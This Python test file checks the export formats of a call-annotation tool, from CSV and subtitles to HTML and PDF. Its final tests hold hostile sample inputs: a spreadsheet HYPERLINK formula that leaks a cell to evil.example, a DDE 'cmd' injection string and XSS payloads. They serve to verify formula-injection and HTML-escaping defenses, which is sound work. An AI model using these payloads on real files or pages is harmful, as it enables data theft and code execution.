"""Every export format on a Russian and (when shared data is present) a real English call."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from callannotate.errors import BadRequest
from callannotate.pipeline.types import Annotation, Emotion, RecordingInfo, VoiceMatch
from callannotate.reports import FORMATS, export, get_format
from callannotate.reports.exporters import export_filename
from callannotate.reports.html import render_html


def test_formats_listed() -> None:
    assert list(FORMATS) == ["json", "csv", "words.csv", "srt", "vtt", "rttm", "html", "pdf"]
    with pytest.raises(BadRequest):
        get_format("docx")
    assert get_format(" PDF ").name == "pdf"


def test_json_round_trips(ru_annotation: Annotation) -> None:
    data = export(ru_annotation, "json")
    assert Annotation.model_validate_json(data) == ru_annotation


def test_exports_are_pure(ru_annotation: Annotation) -> None:
    for fmt in ("json", "csv", "words.csv", "srt", "vtt", "rttm", "html"):
        assert export(ru_annotation, fmt) == export(ru_annotation, fmt)


def _csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_one_row_per_utterance(ru_annotation: Annotation) -> None:
    rows = _csv(export(ru_annotation, "csv"))
    assert len(rows) == len(ru_annotation.utterances)
    assert rows[0]["speaker_name"] == "Анна Петрова"
    assert rows[-1]["text"] == ru_annotation.utterances[-1].text
    assert rows[-1]["sentiment"] == "positive"
    assert float(rows[0]["start"]) == ru_annotation.utterances[0].start


def test_words_csv_one_row_per_word(ru_annotation: Annotation) -> None:
    rows = _csv(export(ru_annotation, "words.csv"))
    assert len(rows) == len(ru_annotation.words)
    assert [r["text"] for r in rows] == [w.text for w in ru_annotation.words]
    for r in rows:
        u = ru_annotation.utterances[int(r["utterance"])]
        assert u.word_start <= int(r["index"]) < u.word_end


def test_srt_and_vtt(ru_annotation: Annotation) -> None:
    srt = export(ru_annotation, "srt").decode()
    blocks = srt.strip().split("\n\n")
    assert len(blocks) == len(ru_annotation.utterances)
    assert blocks[0].splitlines()[0] == "1"
    assert re.fullmatch(r"\d\d:\d\d:\d\d,\d{3} --> \d\d:\d\d:\d\d,\d{3}", blocks[0].splitlines()[1])
    assert blocks[0].splitlines()[2].startswith("Анна Петрова: Здравствуйте")
    vtt = export(ru_annotation, "vtt").decode()
    assert vtt.startswith("WEBVTT\n")
    assert "<v SPEAKER_01>" in vtt
    assert re.search(r"\d\d:\d\d:\d\d\.\d{3} --> \d\d:\d\d:\d\d\.\d{3}", vtt)


def test_rttm_lines(ru_annotation: Annotation) -> None:
    lines = export(ru_annotation, "rttm").decode().splitlines()
    assert len(lines) == len(ru_annotation.turns)
    fields = lines[0].split()
    assert fields[0] == "SPEAKER" and len(fields) == 10
    assert float(fields[3]) == ru_annotation.turns[0].start
    assert float(fields[4]) == pytest.approx(
        ru_annotation.turns[0].end - ru_annotation.turns[0].start, abs=1e-3
    )


def test_html_is_self_contained(ru_annotation: Annotation) -> None:
    page = export(ru_annotation, "html").decode()
    assert page.startswith("<!DOCTYPE html>")
    assert "<svg" in page and 'id="playhead"' in page
    assert "Анна Петрова" in page and "<audio" not in page
    assert page.count('class="w') == len(ru_annotation.words)
    assert not re.search(r"""(src|href)=["']https?://""", page)
    with_audio = render_html(ru_annotation, audio_url="/jobs/x/audio")
    assert '<audio id="player"' in with_audio and 'src="/jobs/x/audio"' in with_audio


def test_html_escapes_text(ru_annotation: Annotation) -> None:
    evil = ru_annotation.model_copy(deep=True)
    evil.utterances[0].text = "<script>alert(1)</script>"
    evil.words[0].text = "<img src=x onerror=alert(1)>"
    page = export(evil, "html").decode()
    assert "<img src=x" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_empty_annotation_exports() -> None:
    empty = Annotation(recording=RecordingInfo(duration=3.0, sample_rate=8000, channels=1))
    for fmt in FORMATS:
        data = export(empty, fmt)
        assert data if fmt not in ("srt", "rttm") else data == b""
    assert export_filename(empty, "csv") == "annotation.utterances.csv"


def test_filename(ru_annotation: Annotation) -> None:
    assert export_filename(ru_annotation, "pdf") == "звонок_поддержка.pdf"
    assert export_filename(ru_annotation, "words.csv") == "звонок_поддержка.words.csv"


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) missing")
def test_pdf_renders_cyrillic(ru_annotation: Annotation, tmp_path: Path) -> None:
    data = export(ru_annotation, "pdf")
    assert data.startswith(b"%PDF-")
    path = tmp_path / "report.pdf"
    path.write_bytes(data)
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout
    assert "звонок поддержка.wav" in text
    assert "Анна Петрова" in text
    assert "Спасибо большое, вы очень помогли!" in text
    assert "Conversation analytics" in text


def test_real_call_exports(call_annotation: Annotation) -> None:
    doc = json.loads(export(call_annotation, "json"))
    assert doc["schema_version"] == "1.0"
    assert len(doc["words"]) == 81  # the reference transcript has 81 words
    assert {s["speaker"] for s in doc["statistics"]["speakers"]} == {"speaker90", "speaker91"}
    rttm = export(call_annotation, "rttm").decode().splitlines()
    assert len(rttm) == len(call_annotation.turns)
    assert export(call_annotation, "pdf").startswith(b"%PDF-")


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def _hostile(annotation: Annotation) -> Annotation:
    """A voice named like a formula, words and text starting with - + @ tab CR, and a
    negative valence (a number, which must stay a number)."""
    hostile = annotation.model_copy(deep=True)
    label = hostile.utterances[0].speaker
    assert label is not None
    for speaker in hostile.speakers:
        if speaker.label == label:
            speaker.voice = VoiceMatch(name=FORMULA, score=0.9, threshold=0.5, accepted=True)
    hostile.words[0].text = "-1+2"
    hostile.words[1].text = "@SUM(A1:A9)"
    hostile.utterances[0].text = "+7 999 123-45-67 позвоните"
    hostile.utterances[1].text = "\tcmd|' /C calc'!A0"
    hostile.utterances[0].emotion = Emotion(label="sad", valence=-0.25, arousal=0.5)
    return hostile


def test_csv_cells_cannot_start_a_formula(ru_annotation: Annotation) -> None:
    """Issue 15.6: text cells starting with = + - @ tab CR get a leading quote (OWASP);
    numeric cells (times, scores, a negative valence) stay numbers."""
    hostile = _hostile(ru_annotation)
    rows = _csv(export(hostile, "csv"))
    assert rows[0]["speaker_name"] == "'" + FORMULA
    assert rows[0]["text"] == "'+7 999 123-45-67 позвоните"
    assert rows[1]["text"] == "'\tcmd|' /C calc'!A0"
    assert rows[0]["valence"] == "-0.250" and float(rows[0]["valence"]) == -0.25
    assert float(rows[0]["start"]) == hostile.utterances[0].start
    words = _csv(export(hostile, "words.csv"))
    assert words[0]["text"] == "'-1+2"
    assert words[1]["text"] == "'@SUM(A1:A9)"
    assert float(words[0]["probability"]) == round(hostile.words[0].probability, 3)
    for row in [*rows, *words]:
        for column, value in row.items():
            if column in ("start", "end", "valence", "arousal", "sentiment_score", "probability"):
                continue
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
